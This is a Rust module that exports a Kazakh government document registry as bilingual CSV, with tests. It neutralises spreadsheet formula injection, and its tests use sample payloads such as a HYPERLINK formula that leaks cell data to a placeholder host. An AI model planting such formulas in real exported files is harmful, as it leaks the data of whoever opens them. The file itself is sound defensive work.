//! `qujat export`: a registry extract as CSV, one row per registered document, streamed.
//!
//! The status events (few) are found first, through the journal's index; then one pass over the
//! journal writes a row per document as it reads it, so a million records never sit in memory. Column headers are
//! bilingual, dates `DD.MM.YYYY`. `--excel` writes what a spreadsheet in a Kazakh or Russian
//! locale opens as it is: a UTF-8 byte order mark (without it Excel reads Windows-1251), `;`
//! between fields (the list separator of those locales), CRLF line ends, and long digit strings
//! (IIN/BIN) written as `="…"` so they are not turned into rounded numbers. In every mode a
//! field that a spreadsheet would evaluate as a formula starts with `'` ([`read_as_formula`]).

use std::collections::HashMap;
use std::fmt::Write as _;
use std::io::Write;

use anyhow::Result;

use crate::date::Date;
use crate::registry::brief::Brief;
use crate::registry::reader::Reader;
use crate::registry::scan::{self, Prepare, Seen, Sink, Verified};
use crate::registry::{Document, LineError, Status, StatusEntry, parse_for_readers};

/// Which documents an extract holds.
#[derive(Debug, Clone, Default)]
pub struct Filter {
    /// Issued on or after.
    pub from: Option<Date>,
    /// Issued on or before.
    pub to: Option<Date>,
    pub service: Option<String>,
    /// The status in force.
    pub status: Option<Status>,
}

impl Filter {
    fn accepts(&self, row: &Row<'_>) -> bool {
        self.from.is_none_or(|from| row.issued >= from)
            && self.to.is_none_or(|to| row.issued <= to)
            && self.service.as_ref().is_none_or(|s| s == row.service)
            && self.status.is_none_or(|s| s == row.status())
    }
}

/// The columns: Kazakh / Russian headers.
pub const HEADERS: [&str; 13] = [
    "Тізілім / Реестр",
    "Жазба / Запись",
    "Нөмірі / Номер",
    "Құжат / Документ",
    "Мемлекеттік көрсетілетін қызмет / Государственная услуга",
    "Іс / Дело",
    "Алушы / Получатель",
    "ЖСН/БСН / ИИН/БИН",
    "Берілген күні / Дата выдачи",
    "Мәртебесі / Статус",
    "Мәртебе күні / Дата статуса",
    "Негізі / Основание",
    "PDF SHA-256",
];

/// One document as an extract shows it, borrowed from the record it is read from: a million
/// rows are written without copying their fields.
struct Row<'a> {
    seq: u64,
    number: &'a str,
    title: (&'a str, &'a str),
    service: &'a str,
    case_id: &'a str,
    holder: (&'a str, &'a str),
    holder_id: &'a str,
    issued: Date,
    /// The event that set the status in force (none while the document was never changed).
    event: Option<&'a StatusEntry>,
    pdf_sha256: &'a str,
}

impl<'a> Row<'a> {
    /// The row of a record read briefly, if it carries its holder and title (records written
    /// before they did must be read whole).
    fn of_brief(brief: &'a Brief<'a>, statuses: &'a HashMap<u64, StatusEntry>) -> Option<Row<'a>> {
        let (holder, title) = (brief.holder.as_ref()?, brief.title.as_ref()?);
        Some(Row {
            seq: brief.seq,
            number: brief.number(),
            title: (&title.kk, &title.ru),
            service: brief.service.as_deref().unwrap_or_default(),
            case_id: brief.case_id.as_deref().unwrap_or_default(),
            holder: (&holder.kk, &holder.ru),
            holder_id: &holder.id,
            issued: brief.issued?,
            event: statuses.get(&brief.seq),
            pdf_sha256: brief.pdf_sha256(),
        })
    }

    /// The row of a document read whole, with its holder and title as `holder` and `title`
    /// (from its data, for records written before they carried them).
    fn of_document(
        document: &'a Document,
        holder: &'a crate::registry::Holder,
        title: &'a crate::registry::Words,
    ) -> Row<'a> {
        let doc = &document.entry;
        Row {
            seq: document.seq,
            number: &doc.number,
            title: (&title.kk, &title.ru),
            service: &doc.service,
            case_id: &doc.case_id,
            holder: (&holder.kk, &holder.ru),
            holder_id: &holder.id,
            issued: doc.issued,
            event: document.event.as_ref(),
            pdf_sha256: &doc.pdf.sha256,
        }
    }

    fn status(&self) -> Status {
        self.event.map_or(Status::Active, |e| e.status)
    }
}

/// What formats rows in one of the threads that read records, reused from row to row.
struct RowWriter {
    csv: csv::Writer<Line>,
    /// The row's fields, one after the other, and where each ends.
    fields: String,
    ends: Vec<usize>,
    excel: bool,
}

impl RowWriter {
    fn new(excel: bool) -> RowWriter {
        RowWriter {
            csv: csv_writer(excel).from_writer(Line::default()),
            fields: String::new(),
            ends: Vec::with_capacity(HEADERS.len()),
            excel,
        }
    }

    /// The CSV line of `row` in registry `registry`.
    fn line(&mut self, registry: &str, row: &Row<'_>) -> Vec<u8> {
        let (status_kk, status_ru) = row.status().words();
        self.fields.clear();
        self.ends.clear();
        self.field(|out| out.write_str(registry));
        self.field(|out| write!(out, "{}", row.seq));
        self.field(|out| out.write_str(row.number));
        self.field(|out| both(out, row.title));
        self.field(|out| out.write_str(row.service));
        self.field(|out| out.write_str(row.case_id));
        self.field(|out| both(out, row.holder));
        self.field(|out| out.write_str(row.holder_id));
        self.field(|out| row.issued.write_dmy(out));
        self.field(|out| write!(out, "{status_kk} / {status_ru}"));
        self.field(|out| row.event.map_or(Ok(()), |event| event.date.write_dmy(out)));
        self.field(|out| match row.event {
            None => Ok(()),
            Some(event) => match &event.by {
                Some(by) if event.reason.is_empty() => write!(out, "№ {by}"),
                Some(by) => write!(out, "{} (№ {by})", event.reason),
                None => out.write_str(&event.reason),
            },
        });
        self.field(|out| out.write_str(row.pdf_sha256));
        let mut start = 0;
        let fields = self.ends.iter().map(|&end| {
            let field = &self.fields[start..end];
            start = end;
            field
        });
        self.csv
            .write_record(fields)
            .and_then(|()| Ok(self.csv.flush()?))
            .expect("writing to memory cannot fail");
        self.csv.get_ref().0.take()
    }

    /// Adds the field `write` writes.
    fn field(&mut self, write: impl FnOnce(&mut String) -> std::fmt::Result) {
        let start = self.fields.len();
        write(&mut self.fields).expect("writing to memory cannot fail");
        if read_as_formula(&self.fields[start..]) {
            self.fields.insert(start, '\'');
        } else if self.excel && spoilt_as_number(&self.fields[start..]) {
            self.fields.insert_str(start, "=\"");
            self.fields.push('"');
        }
        self.ends.push(self.fields.len());
    }
}

/// A text in Kazakh and Russian as one field: `kk / ru`, or one of them if they are the same.
fn both(out: &mut String, (kk, ru): (&str, &str)) -> std::fmt::Result {
    out.write_str(kk)?;
    if kk != ru {
        write!(out, " / {ru}")?;
    }
    Ok(())
}

/// Where a [`RowWriter`]'s CSV writer writes a row: taken out whole when the row is done.
#[derive(Default)]
struct Line(std::cell::Cell<Vec<u8>>);

impl Write for Line {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.get_mut().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// How the extract's CSV is written: `;` and CRLF for a spreadsheet, `,` and LF otherwise.
fn csv_writer(excel: bool) -> csv::WriterBuilder {
    let mut builder = csv::WriterBuilder::new();
    builder
        .delimiter(if excel { b';' } else { b',' })
        .terminator(if excel {
            csv::Terminator::CRLF
        } else {
            csv::Terminator::Any(b'\n')
        });
    builder
}

/// A field a spreadsheet opening the file would take for a formula and evaluate: one starting
/// with `=`, `+`, `-` or `@`, or with a tab or carriage return (which some strip before looking
/// for those). Such a field is written with a leading `'`, which Excel and LibreOffice Calc
/// both show as part of the text and never evaluate (tests/suite/extracts.rs opens an extract
/// in LibreOffice to see it): an applicant named `=HYPERLINK(…)` stays a name.
fn read_as_formula(field: &str) -> bool {
    field
        .bytes()
        .next()
        .is_some_and(|b| matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

/// A digit string a spreadsheet would turn into a number and spoil: a leading zero, or too many
/// digits to show (IIN and BIN have twelve).
fn spoilt_as_number(field: &str) -> bool {
    field.len() > 1
        && field.bytes().all(|b| b.is_ascii_digit())
        && (field.starts_with('0') || field.len() >= 12)
}

/// Writes the extract of registry `reader` holding the documents `filter` accepts to `out` and
/// returns how many rows it wrote. The registry is verified as it is read (the one verified
/// scan: hashes, links, numbers, statuses, checkpoints): an extract of a damaged registry fails,
/// naming the record. Records are read in parallel without their data (the holder and title
/// they carry are enough), rows formatted there too, and written in journal order as they come.
pub fn export(
    reader: &Reader,
    filter: &Filter,
    excel: bool,
    out: impl Write + Send,
) -> Result<u64> {
    let statuses = reader.statuses()?;
    let mut out = std::io::BufWriter::with_capacity(1 << 20, out);
    if excel {
        out.write_all("\u{feff}".as_bytes())?;
    }
    let mut csv = csv_writer(excel).from_writer(out);
    csv.write_record(HEADERS)?;
    let out = csv
        .into_inner()
        .map_err(|e| anyhow::anyhow!("cannot write the extract: {}", e.error()))?;
    let mut rows = Rows {
        rows: RowsOf {
            code: &reader.code,
            statuses: &statuses,
            filter,
            excel,
        },
        out,
        count: 0,
    };
    let log = reader.log();
    let outcome = scan::scan(
        log,
        scan::Start::default(),
        &scan::Options {
            checkpoints: reader.checkpoints()?,
            ..scan::Options::default()
        },
        &mut rows,
    )?;
    let damaged = || {
        format!(
            "registry {} ({}) is damaged; run `qujat registry check`",
            reader.code,
            reader.describe()
        )
    };
    if let Some(broken) = outcome.broken {
        return Err(anyhow::Error::new(broken).context(damaged()));
    }
    if let Some(problem) = outcome.problems.first() {
        anyhow::bail!("{}: {problem}", damaged());
    }
    rows.out.flush()?;
    Ok(rows.count)
}

/// Formats a document's row where its record is read, in parallel.
struct RowsOf<'a> {
    code: &'a str,
    statuses: &'a HashMap<u64, StatusEntry>,
    filter: &'a Filter,
    excel: bool,
}

impl Prepare for RowsOf<'_> {
    /// The row's bytes, for a document the filter accepts.
    type Item = Option<Vec<u8>>;
    type Scratch = Option<RowWriter>;

    fn prepare(
        &self,
        scratch: &mut Option<RowWriter>,
        seen: &Seen<'_>,
    ) -> Result<Option<Vec<u8>>, LineError> {
        let brief = seen.brief;
        if !brief.is_document() {
            return Ok(None);
        }
        let writer = scratch.get_or_insert_with(|| RowWriter::new(self.excel));
        Ok(match Row::of_brief(brief, self.statuses) {
            Some(row) => self
                .filter
                .accepts(&row)
                .then(|| writer.line(self.code, &row)),
            None => {
                // Written before records carried their holder: read it whole.
                let record = parse_for_readers(seen.body)?;
                let entry = record.document().expect("a document record").clone();
                let (holder, title) = (entry.holder(), entry.title());
                let document = Document::new(
                    self.code,
                    record.seq,
                    seen.hash,
                    entry,
                    self.statuses.get(&record.seq).cloned(),
                );
                let row = Row::of_document(&document, &holder, &title);
                self.filter
                    .accepts(&row)
                    .then(|| writer.line(self.code, &row))
            }
        })
    }
}

/// Writes the rows, in order.
struct Rows<'a, W: Write> {
    rows: RowsOf<'a>,
    out: W,
    count: u64,
}

impl<'a, W: Write> Sink for Rows<'a, W> {
    type Prepare = RowsOf<'a>;

    fn preparer(&self) -> RowsOf<'a> {
        RowsOf { ..self.rows }
    }

    fn record(&mut self, _: &Verified<'_>, row: Option<Vec<u8>>) -> Result<()> {
        if let Some(bytes) = row {
            self.out.write_all(&bytes)?;
            self.count += 1;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::{
        DocumentEntry, Entry, GENESIS, Holder, PdfEntry, Record, Words, sha256_hex, to_line,
    };
    use serde_json::json;

    /// A media certificate for holder `name`; `carried` says whether the record carries its
    /// holder and title or, as records written before it did, leaves them to its data.
    fn document(seq: u64, prev: &str, name: &str, carried: bool) -> Record {
        let (id, kk, ru) = (
            "140440012035",
            format!("«{name}» ЖШС"),
            format!("ТОО «{name}»"),
        );
        let data = json!({
            "case": {"applicant": {"bin": id, "name": {"kk": kk, "ru": ru}}},
            "document": {"title": {"kk": "Куәлік", "ru": "Свидетельство"}},
        });
        Record {
            seq,
            prev: prev.to_string(),
            entry: Entry::Document(DocumentEntry {
                service: "media-registration".into(),
                case_id: format!("MR-{seq}"),
                document: "certificate".into(),
                sequence: "certificate".into(),
                n: seq,
                number: format!("{seq:05}-Г"),
                items: Vec::new(),
                once: None,
                issued: "2026-11-20".parse().unwrap(),
                case_hash: sha256_hex(b"case"),
                content: crate::registry::hash_json(&data),
                data,
                template: sha256_hex(b"template"),
                fonts: sha256_hex(b"fonts"),
                engine: "typst 0.15.1".into(),
                pdf: PdfEntry {
                    sha256: sha256_hex(seq.to_string().as_bytes()),
                    file: format!("media/certificate-{seq:06}.pdf"),
                    ident: format!("qujat:media/certificate/{seq}"),
                    created: "2026-11-20T00:00:00Z".into(),
                    creator: "qujat".into(),
                },
                qr: format!("https://qujat.gov.kz/verify?r=media&n={seq:05}-%D0%93"),
                holder: carried.then(|| Holder {
                    id: id.into(),
                    kk: kk.clone(),
                    ru: ru.clone(),
                }),
                title: carried.then(|| Words {
                    kk: "Куәлік".into(),
                    ru: "Свидетельство".into(),
                }),
                signature: None,
            }),
        }
    }

    #[test]
    fn rows_are_the_same_whether_a_record_carries_its_holder_or_its_data_names_it() {
        let dir = tempfile::tempdir().unwrap();
        let (mut text, mut prev) = (String::new(), GENESIS.to_string());
        for (seq, name, carried) in [
            (1, "Ертіс, \"Медиа\"", false),
            (2, "Ертіс, \"Медиа\"", true),
        ] {
            let (line, hash) = to_line(&document(seq, &prev, name, carried));
            text.push_str(&line);
            prev = hash;
        }
        let event = Record {
            seq: 3,
            prev,
            entry: Entry::Status(StatusEntry {
                target: 1,
                number: "00001-Г".into(),
                status: Status::Superseded,
                date: "2026-11-24".parse().unwrap(),
                reason: "Приказ № 7".into(),
                by: Some("00002-Г".into()),
            }),
        };
        text.push_str(&to_line(&event).0);
        std::fs::create_dir_all(dir.path().join("media")).unwrap();
        std::fs::write(dir.path().join("media/journal.jsonl"), text).unwrap();
        let store = crate::store::files::Files::new(dir.path());
        let reader = Reader::open(&store, "media").unwrap();
        let extract = |excel| {
            let mut out = Vec::new();
            let rows = export(&reader, &Filter::default(), excel, &mut out).unwrap();
            assert_eq!(rows, 2);
            String::from_utf8(out).unwrap()
        };
        let holder = "\"«Ертіс, \"\"Медиа\"\"» ЖШС / ТОО «Ертіс, \"\"Медиа\"\"»\"";
        let pdf = |seq: u64| sha256_hex(seq.to_string().as_bytes());
        let plain = extract(false);
        let lines: Vec<&str> = plain.lines().collect();
        assert_eq!(lines.len(), 3, "{plain}");
        assert_eq!(
            lines[1],
            format!(
                "media,1,00001-Г,Куәлік / Свидетельство,media-registration,MR-1,{holder},\
                 140440012035,20.11.2026,ауыстырылды / заменено,24.11.2026,\
                 Приказ № 7 (№ 00002-Г),{}",
                pdf(1)
            )
        );
        assert_eq!(
            lines[2],
            format!(
                "media,2,00002-Г,Куәлік / Свидетельство,media-registration,MR-2,{holder},\
                 140440012035,20.11.2026,қолданыста / действует,,,{}",
                pdf(2)
            )
        );
        let excel = extract(true);
        let rows: Vec<&str> = excel.split("\r\n").collect();
        assert!(rows[0].starts_with('\u{feff}'), "a byte order mark first");
        assert_eq!(
            rows[2],
            format!(
                "media;2;00002-Г;Куәлік / Свидетельство;media-registration;MR-2;{holder};\
                 \"=\"\"140440012035\"\"\";20.11.2026;қолданыста / действует;;;{}",
                pdf(2)
            )
        );
    }

    #[test]
    fn fields_a_spreadsheet_would_evaluate_get_a_leading_apostrophe_in_every_mode() {
        for excel in [false, true] {
            let mut rows = RowWriter::new(excel);
            let mut row = Row {
                seq: 1,
                number: "00001-Г",
                title: ("=1+1", "=1+1"),
                service: "media-registration",
                case_id: "@SUM(A1)",
                holder: ("=HYPERLINK(\"http://x/?leak=\"&A1;\"a\")", "+7 701"),
                holder_id: "-140440012035",
                issued: "2026-11-20".parse().unwrap(),
                event: None,
                pdf_sha256: "\tcmd",
            };
            let line = String::from_utf8(rows.line("media", &row)).unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .delimiter(if excel { b';' } else { b',' })
                .from_reader(line.as_bytes());
            let record = reader.records().next().unwrap().unwrap();
            let fields: Vec<&str> = record.iter().collect();
            assert_eq!(fields[3], "'=1+1", "{line}");
            assert_eq!(fields[5], "'@SUM(A1)");
            assert_eq!(
                fields[6],
                "'=HYPERLINK(\"http://x/?leak=\"&A1;\"a\") / +7 701"
            );
            assert_eq!(fields[7], "'-140440012035");
            assert_eq!(fields[12], "'\tcmd");
            // Text that only contains such characters later is left as it is.
            row.title = ("Жаңа = ескі", "a+b");
            row.case_id = "MR-2026-0001";
            let line = String::from_utf8(rows.line("media", &row)).unwrap();
            assert!(line.contains("Жаңа = ескі / a+b"), "{line}");
            assert!(line.contains("MR-2026-0001"), "{line}");
        }
        for formula in ["=", "+1", "-1", "@x", "\tx", "\rx"] {
            assert!(read_as_formula(formula), "{formula:?}");
        }
        for text in ["", "1", "a=b", " =1", "'=1", "№ 1"] {
            assert!(!read_as_formula(text), "{text:?}");
        }
    }

    #[test]
    fn digit_strings_a_spreadsheet_would_spoil() {
        assert!(spoilt_as_number("140440012035"));
        assert!(spoilt_as_number("050101500123"));
        assert!(spoilt_as_number("007"));
        assert!(!spoilt_as_number("17"));
        assert!(!spoilt_as_number("0"));
        assert!(!spoilt_as_number("00017-Г"));
        assert!(!spoilt_as_number("16.11.2026"));
    }
}
